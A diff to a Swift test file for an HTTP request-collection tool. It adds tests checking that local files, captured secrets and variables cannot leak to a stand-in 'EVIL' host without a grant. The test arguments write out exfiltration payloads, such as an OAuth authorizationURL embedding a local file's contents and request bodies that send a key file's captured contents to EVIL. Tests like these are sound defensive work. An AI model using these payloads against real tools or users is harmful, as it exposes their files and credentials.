@@ -135,6 +135,28 @@ import Testing
         #expect(!result.passed && Stranger.leaks(stranger.evil) == [], "\(result.failures)")
     }
 
+    @Test(arguments: [
+        (#""authorizationURL":"EVIL/{{$file('ABOVE/lines')}}""#, "the file "),
+        (#""authorizationURL":"EVIL/","scope":"{{mine}}""#, "mine of the local file"),
+        (#""authorizationURL":"EVIL/","parameters":[{"name":"a","value":"{{mine}}"}]"#, "mine of the local file"),
+    ])
+    func `each source in the URL of the page to sign in needs a grant for it`(
+        _ members: String, _ source: String
+    ) throws {
+        let stranger = try Stranger()
+        defer { stranger.remove() }
+        try "a line\nand S3CRET\n".write(toFile: stranger.folder + "/lines", atomically: true, encoding: .utf8)
+        try stranger.write(#"{"variables":{"mine":"7"}}"#, to: "c.local.json")
+        try stranger.write(
+            Stranger.file(
+                environment: "",
+                request: #""authentication":{"oauth2":{"grant":"authorizationCode","tokenURL":"GOOD/t","clientID":"i","#
+                    + members + "}}"))
+        let flows = stranger.session().flows(of: try stranger.collection(), file: stranger.file)
+        let toPage = flows.filter { $0.destination.text == stranger.evil.host }.map(\.source.text)
+        #expect(toPage.count == 1 && toPage[0].hasPrefix(source), "\(flows.map(\.text))")
+    }
+
     @Test func `a captured secret goes back to its server, and elsewhere only after a grant`() async throws {
         let stranger = try Stranger { request in .ok(request.target == "/login" ? "{\"t\":\"captured-secret\"}" : "{}")
         }
@@ -179,6 +201,37 @@ import Testing
         #expect(away.failures.joined().contains("the captured piece from \(stranger.good.host)"), "\(away.failures)")
         #expect(try await stranger.send("free", session).passed)
         #expect(stranger.evil.requests.map(\.target) == ["/plain"])
+    }
+
+    @Test(arguments: [
+        #"{"text":"{{token}}"}"#, #"{"text":"{{$file('ABOVE/key.json')}}"}"#, #"{"file":"ABOVE/key.json"}"#,
+        #"{"multipart":[{"name":"a","file":"ABOVE/key.json"}]}"#,
+    ])
+    func `a member of a secret or of a file that a server reads as JSON needs a grant to leave it`(
+        _ body: String
+    ) async throws {
+        let key = #"{"kind":"plain","key":"-----BEGIN\nS3CRET\n"}"#
+        let stranger = try Stranger { _ in .ok("{\"read\":\(key),\"id\":\"another\"}") }
+        defer { stranger.remove() }
+        try key.write(toFile: stranger.folder + "/key.json", atomically: true, encoding: .utf8)
+        try stranger.write(
+            """
+            {"version":1,"name":"c",
+             "environments":[{"name":"e","host":"GOOD","secrets":{"token":{"file":"ABOVE/key.json"}}}],"items":[
+              {"request":"upload","method":"POST","path":"/","body":\(body),
+               "capture":{"piece":{"path":"$.read.key"},"id":{"path":"$.id"}}},
+              {"request":"away","method":"POST","path":"EVIL/","body":{"text":"{{piece}}"}},
+              {"request":"back","path":"/{{id}}"},{"request":"free","path":"EVIL/{{id}}"}]}
+            """)
+        let grant = try #require(GrantPattern("*=" + stranger.good.host))
+        stranger.gate = OmbiWorkspace.Gate(store: nil, patterns: [grant])
+        let session = stranger.session()
+        let away = try await stranger.send("away", session)
+        #expect(!away.passed && stranger.evil.requests.isEmpty, "\(away.failures)")
+        #expect(away.failures.joined().contains("the captured piece from \(stranger.good.host)"), "\(away.failures)")
+        #expect(try await stranger.send("back", session).passed)
+        // A response to a file may have any piece of it.
+        #expect(try await stranger.send("free", session).passed == body.contains("text"))
     }
 
     @Test func `cookies do not leave by a way that is new`() async throws {
